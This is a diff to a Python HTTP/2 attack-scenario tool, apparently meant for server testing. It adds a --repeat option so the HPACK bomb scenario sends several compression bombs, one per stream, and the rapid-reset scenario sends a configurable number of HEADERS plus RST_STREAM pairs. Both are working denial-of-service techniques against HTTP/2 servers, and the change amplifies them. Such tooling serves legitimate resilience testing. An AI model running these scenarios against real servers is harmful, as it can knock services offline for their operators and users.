@@ -452,6 +452,15 @@ def scenario_hpack_bomb(args, session):
     block = session.conn.data_to_send()
     session.flush(before + block)
     session.wait_streams([stream_id])
+    # --repeat N: N - 1 more bombs, one stream each, as long as the connection takes them.
+    for _ in range(max(0, (args.repeat or 1) - 1)):
+        if not session.usable():
+            break
+        more = session.send_request(headers, args.authority, send_now=False)
+        if not session.streams[more]["sent"]:
+            break
+        session.flush()
+        session.wait_streams([more])
     probe = probe_get(args, session)
     decoded = sum(len(n) + len(v) for n, v in headers)
     return {"bomb_stream": stream_id, "probe_stream": probe, "header_block_wire_bytes": len(block),
@@ -461,7 +470,7 @@ def scenario_hpack_bomb(args, session):
 
 
 def scenario_rapid_reset(args, session):
-    count = 200
+    count = args.repeat or 200
     reset_ids = []
     for _ in range(count):
         stream_id = session.send_request(get_headers(args.pinned_authority, args.path),
@@ -636,6 +645,8 @@ def parse_args(argv):
     parser.add_argument("--protocol", default="websocket", help="extended-connect: the :protocol value")
     parser.add_argument("--payload-size", type=int, default=100000, help="extended-connect: message bytes")
     parser.add_argument("--timeout", type=float, default=5.0, help="seconds per wait (default 5)")
+    parser.add_argument("--repeat", type=int, default=0,
+                        help="rapid-reset: HEADERS+RST_STREAM pairs (default 200); hpack-bomb: bombs, one stream each (default 1)")
     args = parser.parse_args(argv)
     args.connect_hp = host_port(args.connect, "--connect")
     args.proxy_hp = host_port(args.proxy, "--proxy") if args.proxy else None
